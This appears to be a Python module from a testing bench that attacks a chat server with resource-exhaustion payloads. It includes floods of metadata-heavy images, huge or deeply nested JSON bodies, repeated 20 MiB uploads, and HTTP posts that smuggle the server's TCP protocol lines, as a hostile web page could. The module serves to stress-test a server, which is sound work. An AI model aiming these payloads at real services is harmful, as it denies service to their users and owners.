"""Attacks with large or expensive input: pictures, bodies, files."""

import asyncio
import base64
import itertools
import json
import time
from collections.abc import Iterator

from bench.attack import pictures
from bench.attack.attacker import PASSWORD, PAUSE, SOURCE, Attacker, again, image, room_id, text
from bench.attack.books import INTRUSION
from bench.attack.members import ROOM
from bench.attack.wire import Http, Lines, Lost

_MIB = 1024 * 1024


async def sixteen_pictures(attacker: Attacker) -> None:
    """16 pictures full of metadata at the same time, every ten seconds."""
    clients, posts = [attacker.client() for _ in range(16)], _picture_posts()
    while True:
        began = time.monotonic()
        await asyncio.gather(*(attacker.once(client, next(posts)) for client in clients))
        await asyncio.sleep(began + 10 - time.monotonic())


async def hostile_pictures(attacker: Attacker) -> None:
    """16 connections that post pictures full of metadata without a pause."""
    posts = _picture_posts()
    await attacker.repeat(16, lambda: next(posts))


def _picture_posts() -> Iterator[tuple[str, str, bytes]]:
    made = [json.dumps(image(make(5_000_000))[2]).encode() for make in pictures.HOSTILE]
    return (("POST", "/chat/send", body) for body in itertools.cycle(made))


async def large_avatar(attacker: Attacker) -> None:
    """An avatar as large as is taken, and messages that bring it."""
    avatar = "data:image/png;base64," + base64.b64encode(pictures.photo(620)).decode()
    status, _, _ = await attacker.client().call("PUT", "/account/info", {"avatar": avatar[:524_000]})
    attacker.counts[f"avatar {status}"] += 1
    await attacker.repeat(2, lambda: ("POST", "/chat/send", text("look at me")))


async def expensive_bodies(attacker: Attacker) -> None:
    """Bodies that take long to look at: escapes, names, words; before and after logging in."""
    escaped = b'{"username":"a","password":"\\u0041' + b"x" * 8_000_000 + b'"}'
    names = json.dumps({("é" * 395) + str(number): "" for number in range(4900)}).encode()
    words = b'{"roomname":"lesson","new_message":{"type":"img","content":"' + b"abc " * 1_900_000 + b'"}}'
    deep = b"[" * 900_000
    number = b'{"username":' + b"9" * 4_000_000 + b"}"
    async with asyncio.TaskGroup() as group:
        for path, body, count in (
            ("/user/login", escaped, 4),
            ("/chat/pull?timeout=0", names, 4),
            ("/chat/send", words, 4),
            ("/login", deep, 4),
            ("/Login", number, 4),
        ):
            group.create_task(attacker.repeat(count, lambda path=path, body=body: ("POST", path, body)))


async def files(attacker: Attacker) -> None:
    """Files of 20 MiB by the tcp protocol, one after the other."""

    async def upload(lines: Lines) -> None:
        lines.send("login_request", username=attacker.name, password=PASSWORD)
        room = await room_id(attacker)
        while True:
            lines.send("file_upload_request", filename="x", file_data="", file_size=20 * _MIB, chat_group_id=room)
            await _until(attacker, lines, {"file_upload_response", "error_message"}, "file_upload_response")
            for _ in range(160):
                await lines.raw(bytes(_MIB // 8))
            await _until(attacker, lines, {"file_upload_response", "error_message"}, "file_upload_response")

    await again(attacker, lambda: Lines.open(attacker.tcp_port, SOURCE), upload)


async def _until(attacker: Attacker, lines: Lines, kinds: set[str], wanted: str) -> None:
    """Skip to a message of these kinds. Raises Lost where it is not the wanted one: uploading starts again then."""
    while (message := await lines.receive())["message_type"] not in kinds:
        pass
    attacker.counts[message["message_type"]] += 1
    if message["message_type"] != wanted or not message["success"]:
        raise Lost("refused")


async def posts_to_the_tcp_port(attacker: Attacker) -> None:
    """Send HTTP requests as another site's page can make a browser send, with the protocol's lines as body."""
    lines = [
        {"message_type": "login_request", "username": attacker.name, "password": PASSWORD},
        {"message_type": "chat_message", "chat_group_name": ROOM, "content": INTRUSION},
    ]
    body = "\n".join(json.dumps(line) for line in lines) + "\n"
    client = Http(attacker.tcp_port, SOURCE)
    while True:
        try:
            await client.call("POST", "/", body.encode())
        except Lost:
            attacker.counts["closed"] += 1
        await asyncio.sleep(PAUSE)
